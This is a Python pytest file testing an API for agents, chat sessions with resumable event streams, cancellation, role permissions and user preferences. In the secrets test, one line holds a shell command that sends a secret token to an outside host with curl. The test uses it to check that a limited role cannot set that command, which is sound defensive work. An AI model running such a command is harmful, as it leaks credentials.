"""Agents, what is said to them, and preferences, as rows: accepted, refused, listed, streamed from where one was."""

from __future__ import annotations

import asyncio
import json
from typing import Any
from uuid import uuid4

import httpx
import orjson
import pytest

from activities.session_ends import settle_session
from model.base import new_id
from model.chat import SUPERVISED
from model.workflows import Failure, Order
from tests.api.conftest import Api
from tests.api.test_bad_input import JSON
from tests.api.test_work_sessions import create, put, workspace

Json = dict[str, Any]
CUSTOM = {"name": "coder", "type": "custom", "cmd": ["python3", "a.py"], "model": "m-1", "env": {"A": "b"}}


async def agent(api: Api, **body: Any) -> Json:
    answer = await api.http.post("/v1/agents", json={"name": f"a{uuid4().hex[:8]}"} | body)
    assert answer.status_code == 201, answer.text
    found: Json = answer.json()["data"]
    return found


async def session(api: Api, **body: Any) -> Json:
    """One with an agent, ready."""
    made = await create(api, await workspace(api), **{"agent_id": (await agent(api))["id"]} | body)
    put(api, made, "ready", "running")
    return made


def say(api: Api, made: Json, *events: tuple[str, Json]) -> None:
    """What a delivery would store."""
    answer = api.db.one("SELECT * FROM messages WHERE session_id = %s AND finished_at IS NULL", made["id"])
    api.db.rows("UPDATE messages SET status = 'running' WHERE id = %s", answer["id"])
    last = api.db.one("SELECT count(*) AS n FROM message_chunks WHERE message_id = %s", answer["id"])["n"]
    for number, (kind, data) in enumerate(events, last + 1):
        api.db.rows(
            "INSERT INTO message_chunks (message_id, number, project_id, kind, data) VALUES (%s, %s, %s, %s, %s)",
            *(answer["id"], number, api.db.project_id, kind, orjson.dumps(data).decode()),
        )
    api.db.rows("SELECT pg_notify('cairn', %s)", made["id"])


async def end(api: Api, made: Json, outcome: Any, failure: Failure | None = None) -> None:
    """As the turn's workflow ends it."""
    row = api.db.one("SELECT id, \"order\" FROM workflows WHERE kind = 'ChatTurn' ORDER BY id DESC LIMIT 1")
    order = Order.model_validate(row["order"])
    from sqlalchemy import create_engine

    from activities.database import transaction
    from worker.database import driver_url

    engine = create_engine(driver_url(api.db.url("cairn_worker")))

    def settle() -> None:
        with transaction(engine, api.db.project_id) as work:
            settle_session(work, order, outcome, failure, [])
        engine.dispose()

    await asyncio.to_thread(settle)


async def told(api: Api, path: str, most: int, **headers: str) -> list[tuple[str, str, Json]]:
    """The first events of a stream: id, kind, data."""
    found: list[tuple[str, str, Json]] = []
    async with asyncio.timeout(60), api.http.stream("GET", path, headers=headers) as stream:
        assert stream.status_code == 200
        await _read(stream, found, most)
    return found


async def _read(stream: httpx.Response, found: list[tuple[str, str, Json]], most: int) -> None:
    fields: dict[str, str] = {}
    async for line in stream.aiter_lines():
        name, _, value = line.partition(": ")
        if line:
            fields[name] = value
        elif "data" in fields:
            found.append((fields["id"], fields["event"], orjson.loads(fields["data"])))
            fields = {}
            if len(found) == most:
                return


async def test_one_agent_is_the_default_whatever_comes_and_goes(api: Api) -> None:
    first, second = await agent(api, name="one"), await agent(api, **CUSTOM, is_default=True)
    assert first["is_default"] and first["type"] == "reference" and first["cmd"] is None
    path = f"/v1/agents/{first['id']}"
    assert not (await api.http.get(path)).json()["data"]["is_default"]
    await asyncio.gather(*(agent(api, name=f"n{n}", is_default=True) for n in range(4)))
    rows = (await api.http.get("/v1/agents")).json()["data"]
    assert len(rows) == 6 and sum(row["is_default"] for row in rows) == 1
    taken = await api.http.patch(path, json={"name": "coder"})
    assert (taken.status_code, taken.json()["error"]["code"]) == (409, "name_taken")
    stale = await api.http.patch(path, json={"model": "m"}, headers={"If-Match": '"1"'})
    assert stale.status_code == 412
    changed = await api.http.patch(path, json={"is_default": True, "model": "m", "mcp_servers": []})
    assert changed.json()["data"]["is_default"] and changed.headers["ETag"] == '"3"'
    assert (await api.http.delete(path)).status_code == 204
    assert (await api.http.delete(path)).status_code == 404
    rows = (await api.http.get("/v1/agents")).json()["data"]
    assert [row["id"] for row in rows if row["is_default"]] == [second["id"]]
    server = {"name": "docs", "url": "https://mcp.example"}
    for wrong in (
        {"name": "x", "type": "custom"},
        {"name": "x", "cmd": ["a"]},
        {"name": "x", "port": 80},
        {"name": "x", "mcp_servers": [{"name": "s"}]},
        {"name": "x", "mcp_servers": [server, server]},
        {"name": "x", "mcp_servers": [{"name": f"s{n}", "url": "https://" + "x" * 1900} for n in range(10)]},
    ):
        assert (await api.http.post("/v1/agents", json=wrong)).status_code == 422, wrong
    assert (await api.http.patch(f"/v1/agents/{second['id']}", json={"is_default": False})).status_code == 422


async def test_a_session_runs_the_program_of_its_agent_with_what_that_needs(api: Api) -> None:
    none = await api.http.post(f"/v1/workspaces/{await workspace(api)}/sessions", json={"agent_id": "default"})
    assert none.status_code == 404 and "no agent" in none.json()["error"]["message"]
    servers = [{"name": "docs", "url": "https://mcp.example"}]
    made = await agent(api, **CUSTOM, image="own/agent:1", mcp_servers=servers)
    found = await create(api, await workspace(api, "w2"), agent_id="default", env={"A": "c", "B": "d"})
    assert (found["agent_id"], found["image"]) == (made["id"], "own/agent:1")
    sandbox = api.db.one("SELECT cmd, env FROM instances")
    assert sandbox["cmd"] == [*SUPERVISED, "python3", "a.py"]
    wanted = {"A": "c", "B": "d", "CAIRN_AGENT_PORT": "8480", "CAIRN_AGENT_MODEL": "m-1"}
    assert sandbox["env"].items() >= wanted.items()
    assert orjson.loads(sandbox["env"]["CAIRN_AGENT_MCP_SERVERS"])[0]["name"] == "docs"
    many = {f"V{n}": "x" for n in range(256)}
    answer = await api.http.post(f"/v1/workspaces/{await workspace(api, 'w3')}/sessions", json={"env": many})
    assert answer.status_code == 202
    both = {"env": many, "agent_id": made["id"]}
    answer = await api.http.post(f"/v1/workspaces/{await workspace(api, 'w4')}/sessions", json=both)
    assert (answer.status_code, answer.json()["error"]["code"]) == (422, "validation_failed"), answer.text
    assert (await api.http.delete(f"/v1/agents/{made['id']}")).status_code == 204
    assert (await api.http.get(f"/v1/sessions/{found['id']}")).json()["data"]["agent_id"] == made["id"]


async def test_a_prompt_is_stored_once_and_its_answer_streamed_from_where_one_was(api: Api) -> None:
    made = await session(api)
    path = f"/v1/sessions/{made['id']}"
    asked = {"json": {"prompt": "hello"}, "headers": {"Accept": "application/json", "Idempotency-Key": "k"}}
    answers = await asyncio.gather(*(api.http.post(f"{path}/chat", **asked) for _ in range(4)))
    assert {answer.status_code for answer in answers} == {202}
    both = answers[0].json()["data"]
    assert all(answer.json()["data"] == both for answer in answers)
    assert (both["prompt"]["content"], both["answer"]["status"], both["answer"]["number"]) == ("hello", "pending", 2)
    assert (await api.http.get(path)).json()["data"]["status"] == "running"
    busy = await api.http.post(f"{path}/chat", json={"prompt": "more"})
    assert busy.json()["error"]["details"]["workflow_id"] == both["answer"]["workflow_id"]
    assert (await api.http.post(f"{path}/stop")).status_code == 409
    # The prompt is in no order.
    assert "hello" not in str(api.db.rows('SELECT "order" FROM workflows'))
    following = asyncio.create_task(told(api, f"{path}/stream", 4))
    say(api, made, ("text", {"text": "he"}), ("text", {"text": "llo"}))
    await end(api, made, "completed")
    texts = [("2.1", "text", {"text": "he"}), ("2.2", "text", {"text": "llo"})]
    last = ("2.3", "end", {"status": "completed", "error": None})
    assert await following == [("1.0", "prompt", {"text": "hello"}), *texts, last]
    assert (await api.http.get(path)).json()["data"]["status"] == "ready"
    resumed = await told(api, f"{path}/stream", 2, **{"Last-Event-ID": "2.1"})
    assert resumed == [texts[1], last]
    # The same request again: the same turn, told from its beginning.
    async with asyncio.timeout(60):
        again = await api.http.post(f"{path}/chat", json=asked["json"], headers={"Idempotency-Key": "k"})
    assert again.text.count("event: ") == 4 and again.headers["content-type"].startswith("text/event-stream")
    rows = (await api.http.get(f"{path}/messages")).json()["data"]
    assert [(row["role"], row["content"], row["status"]) for row in rows] == [
        ("agent", "hello", "completed"),
        ("user", "hello", "completed"),
    ]
    assert (await api.http.get(f"{path}/stream", headers={"Last-Event-ID": "x"})).status_code == 422


async def test_what_is_called_off_or_fails_says_so_with_the_answer(api: Api) -> None:
    made = await session(api)
    path, json = f"/v1/sessions/{made['id']}", {"Accept": "application/json"}
    idle = await api.http.post(f"{path}/chat/cancel")
    assert (idle.status_code, idle.json()["error"]["code"]) == (409, "invalid_state")
    # Before anybody took it up: ended where it stands.
    assert (await api.http.post(f"{path}/chat", json={"prompt": "a"}, headers=json)).status_code == 202
    cancelled = await api.http.post(f"{path}/chat/cancel")
    assert (cancelled.status_code, cancelled.json()["data"]["state"]) == (202, "cancelled")
    assert (await api.http.get(path)).json()["data"]["status"] == "ready"
    assert (await api.http.post(f"{path}/chat", json={"prompt": "b"}, headers=json)).status_code == 202
    await end(api, made, "failed", Failure(code="agent_failed", message="no"))
    rows = (await api.http.get(f"{path}/messages")).json()["data"]
    assert [row["status"] for row in rows] == ["failed", "completed", "cancelled", "completed"]
    assert rows[0]["error"] == {"code": "agent_failed", "message": "no"}
    shown = (await api.http.get(path)).json()["data"]
    assert (shown["status"], shown["error"]) == ("ready", None)
    # A delete calls off what has not begun; called off itself, it leaves nobody waiting.
    assert (await api.http.post(f"{path}/chat", json={"prompt": "c"}, headers=json)).status_code == 202
    deleting = await api.http.delete(path)
    assert deleting.status_code == 202
    workflow = deleting.json()["meta"]["workflow_id"]
    assert (await api.http.post(f"/v1/workflows/{workflow}/cancel")).json()["data"]["state"] == "cancelled"
    assert (await api.http.get(f"{path}/messages")).json()["data"][0]["status"] == "cancelled"
    assert (await api.http.get(path)).json()["data"]["status"] == "ready"
    assert api.db.one("SELECT state FROM workflows WHERE kind = 'ChatTurn' ORDER BY id DESC LIMIT 1")["state"] == (
        "cancelled"
    )


async def test_who_names_secrets_or_changes_what_gets_them_may_use_them(api: Api) -> None:
    api.db.rows(
        "INSERT INTO roles (id, project_id, name, permissions) VALUES (%s, %s, 'tuner', %s)",
        *(new_id(), api.db.project_id, ["agents:read", "agents:write"]),
    )
    told = {"TOKEN": {"secret": "token"}}
    mine = await agent(api, **(CUSTOM | {"env": told}))
    path = f"/v1/agents/{mine['id']}"
    async with api.as_(api.db.key(api.db.project_id, f"t{uuid4().hex[:8]}", "tuner")) as tuner:
        assert (await tuner.post("/v1/agents", json=CUSTOM | {"name": "mine", "env": told})).status_code == 403
        assert (await tuner.post("/v1/agents", json=CUSTOM | {"name": "mine", "env": {"A": "b"}})).status_code == 201
        for change in ({"cmd": ["sh", "-c", "curl example.org -d $TOKEN"]}, {"env": told}, {"image": "own:1"}):
            assert (await tuner.patch(path, json=change)).status_code == 403, change
        assert (await tuner.patch(path, json={"model": "m-2"})).status_code == 200


async def test_only_who_may_use_a_session_talks_to_its_agent_and_none_without_one(api: Api) -> None:
    plain = await create(api, await workspace(api))
    put(api, plain, "running")
    answer = await api.http.post(f"/v1/sessions/{plain['id']}/chat", json={"prompt": "a"})
    assert (answer.status_code, answer.json()["error"]["code"]) == (409, "invalid_state")
    assert "no agent" in answer.json()["error"]["message"]
    assert answer.json()["error"]["details"]["state"] == "no_agent"
    for wrong in ({}, {"prompt": ""}, {"prompt": "x" * 100_001}, {"prompt": "a\x00"}, {"prompt": "a", "x": 1}):
        assert (await api.http.post(f"/v1/sessions/{plain['id']}/chat", json=wrong)).status_code == 422
    viewer = api.db.key(api.db.project_id, f"v{uuid4().hex[:8]}", "viewer")
    stranger = api.db.project(f"t{uuid4().hex[:8]}")
    mine = await agent(api)
    for key, status in ((viewer, 403), (stranger, 404)):
        async with api.as_(key) as http:
            for id in (plain["id"], new_id()):
                path = f"/v1/sessions/{id}"
                said = [await http.post(f"{path}/chat", json={"prompt": "a"}), await http.get(f"{path}/stream")]
                said += [await http.get(f"{path}/messages"), await http.post(f"{path}/chat/cancel")]
                assert {answer.status_code for answer in said} == {status}
            assert (await http.get(f"/v1/agents/{mine['id']}")).status_code == (200 if key == viewer else 404)
            assert (await http.delete(f"/v1/agents/{mine['id']}")).status_code == status
            if key == stranger:
                assert (await http.get("/v1/agents")).json()["data"] == []


@pytest.mark.parametrize("value", [{"theme": "dark"}, "é", None, [1, 2.5], r"\u0000 is written so"])
async def test_preferences_are_a_users_own(api: Api, value: Any) -> None:
    user = api.db.user(api.db.project_id, f"u{uuid4().hex[:8]}", "viewer")
    async with await api.signed_in(user) as http:
        kept = await http.put("/v1/preferences/editor.main", json={"value": value})
        assert kept.status_code == 200 and kept.json()["data"]["value"] == value, kept.text
        assert (await http.get("/v1/preferences/editor.main")).json()["data"] == kept.json()["data"]
        if value is None:
            for wrong in (
                {"value": "x" * 9000},
                {},
                *({"value": v} for v in ("a\x00", {"a\ud800": 1}, [2**64], 1e999)),
            ):
                said = await http.put("/v1/preferences/a", content=json.dumps(wrong), headers=JSON)
                assert said.status_code == 422, said.text
            assert (await http.put("/v1/preferences/A%20b", json={"value": 1})).status_code == 422
        assert (await api.http.get("/v1/preferences/editor.main")).status_code == 404
        assert [row["key"] for row in (await http.get("/v1/preferences")).json()["data"]] == ["editor.main"]
        assert (await http.delete("/v1/preferences/editor.main")).status_code == 204
        assert (await http.get("/v1/preferences/editor.main")).status_code == 404
